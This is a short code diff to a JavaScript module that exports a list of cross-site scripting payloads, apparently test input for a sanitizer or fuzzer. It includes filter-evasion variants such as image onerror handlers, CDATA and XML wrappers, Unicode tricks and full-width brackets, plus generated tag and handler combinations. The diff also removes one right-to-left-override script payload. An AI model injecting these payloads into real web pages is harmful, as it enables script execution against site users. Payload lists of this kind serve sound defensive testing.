@@ -49,7 +49,6 @@ const WRITTEN = [
   `<!--><img src=x onerror=${CALL}>-->`,
   `<![CDATA[<img src=x onerror=${CALL}>]]>`,
   `<?xml version="1.0"?><x onload="${CALL}"/>`,
-  `\u202e<script>${CALL}</script>`,
   `x\u2028${CALL}\u2029x`,
   `\u0130mg src=x onerror=${CALL}`,
   `＜script＞${CALL}＜/script＞`,
@@ -61,7 +60,10 @@ const WRITTEN = [
 ];
 
 const MADE = TAGS.flatMap((tag) =>
-  HANDLERS.flatMap((handler) => [`<${tag} src=x ${handler}=${CALL}>`, `"><${tag}/src=x/${handler}="${CALL}" autofocus open>`]),
+  HANDLERS.flatMap((handler) => [
+    `<${tag} src=x ${handler}=${CALL}>`,
+    `"><${tag}/src=x/${handler}="${CALL}" autofocus open>`,
+  ]),
 );
 
 export const PAYLOADS = [...WRITTEN, ...MADE];
